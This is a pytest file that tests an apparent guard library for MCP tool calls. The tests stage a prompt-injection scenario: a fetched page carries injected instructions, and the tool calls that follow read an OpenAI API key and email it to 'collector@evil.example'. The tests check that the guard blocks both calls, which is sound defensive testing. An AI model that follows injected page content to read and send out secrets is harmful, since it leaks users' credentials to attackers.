"""MCP: a real in-process MCP server (the `mcp` package), guarded on the client and server side."""

from __future__ import annotations

from typing import Any

import pytest

pytest.importorskip("mcp")

from mcp import Client
from mcp.server.mcpserver import MCPServer

import agentwarrant as aw
from agentwarrant.integrations.mcp import GuardMiddleware, guard_client, guard_server

from conftest import INJECTED_PAGE, SCRIPT_DECIDED, STORY_TOOLS, decided, explode, sent, story_specs


def make_server(**options: Any) -> MCPServer:
    server = MCPServer("research", **options)
    for tool in STORY_TOOLS:
        server.tool()(tool)
    return server


def text(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


async def test_client_side_guard_stops_the_injected_instruction(story_guard, researcher, goal):
    sent.clear()
    async with Client(make_server()) as client:
        tools = await guard_client(client, story_guard, specs=story_specs())
        async with story_guard.task(researcher, goal):
            page = await tools.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
            assert text(page) == INJECTED_PAGE and not page.is_error
            key = await tools.call_tool("read_secret", {"path": "openai/api-key"})
            mail = await tools.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
            ok = await tools.call_tool("send_email", {"to": "alice@acme.com", "body": "summary"})
    assert key.is_error and "secret_access" in text(key)
    assert mail.is_error and "untrusted_input" in text(mail) and "collector@evil.example" not in text(mail)
    assert not ok.is_error and sent == ["alice@acme.com"]
    assert decided(story_guard.ledger) == SCRIPT_DECIDED


async def test_server_middleware_guards_every_tools_call(story_guard, researcher, goal):
    sent.clear()
    server = make_server()
    middleware = guard_server(server, story_guard, specs=story_specs())
    async with story_guard.task(researcher, goal) as task:
        middleware.task = task  # a fixed task (a callable `(ctx) -> Task` works too)
        async with Client(server) as client:
            await client.call_tool("fetch_page", {"url": "https://blog.example.com/x"})
            mail = await client.call_tool("send_email", {"to": "collector@evil.example", "body": "key"})
            listed = await client.list_tools()
    assert mail.is_error and "untrusted_input" in text(mail)
    assert sent == []
    assert {t.name for t in listed.tools} == {"fetch_page", "read_secret", "send_email"}
    assert decided(story_guard.ledger) == [("fetch_page", "allowed"), ("send_email", "approval_denied")]


async def test_middleware_passed_at_construction_uses_the_current_task(story_guard, researcher, goal):
    sent.clear()
    middleware = GuardMiddleware(story_guard, specs=story_specs(), tool_names=["fetch_page", "read_secret", "send_email"])
    server = make_server(middleware=[middleware])
    async with story_guard.task(researcher, goal):
        async with Client(server) as client:
            result = await client.call_tool("send_email", {"to": "alice@acme.com", "body": "hi"})
    assert not result.is_error and sent == ["alice@acme.com"]


async def test_unguarded_server_tools_fail_at_wrap_time(story_guard):
    server = make_server()
    with pytest.raises(aw.UnguardedToolError) as error:
        guard_server(server, story_guard, specs={"fetch_page": story_specs()["fetch_page"]})
    assert sorted(error.value.tools) == ["read_secret", "send_email"]
    async with Client(make_server()) as client:
        with pytest.raises(aw.UnguardedToolError, match="`read_secret`"):
            await guard_client(client, story_guard, specs=[story_specs()["fetch_page"], story_specs()["send_email"]])


async def test_tool_errors_are_recorded_as_outcomes(story_guard, researcher, goal):
    server = MCPServer("broken")
    server.tool()(explode)
    async with Client(server) as client:
        tools = await guard_client(client, story_guard, default=aw.ToolSpec("any", impact="low"))
        async with story_guard.task(researcher, goal):
            result = await tools.call_tool("explode", {"reason": "x"})
    assert result.is_error
    completed = [r for r in story_guard.ledger.records() if r["kind"] == "call.completed"]
    assert completed[-1]["outcome"]["status"] == "error"
